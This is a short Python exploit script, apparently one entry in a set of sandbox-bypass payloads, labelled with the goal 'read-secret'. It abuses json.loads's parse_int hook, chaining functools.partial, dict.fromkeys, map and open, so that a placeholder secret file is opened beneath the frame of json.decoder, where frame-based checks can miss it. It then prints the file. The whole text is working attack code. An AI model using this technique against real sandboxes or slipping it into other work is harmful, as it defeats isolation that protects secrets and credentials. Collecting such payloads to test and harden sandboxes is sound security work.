# technique: json.loads(parse_int=): the C scanner opens a file for every number, below the frame of json.decoder
# goal: read-secret
# source: own analysis: attacker's C callables below a trusted frame
import functools
import json
kept = []
json.loads('1', parse_int=functools.partial(dict.fromkeys, map(kept.append, map(open, ['@SECRET@']))))
print(kept[0].read())
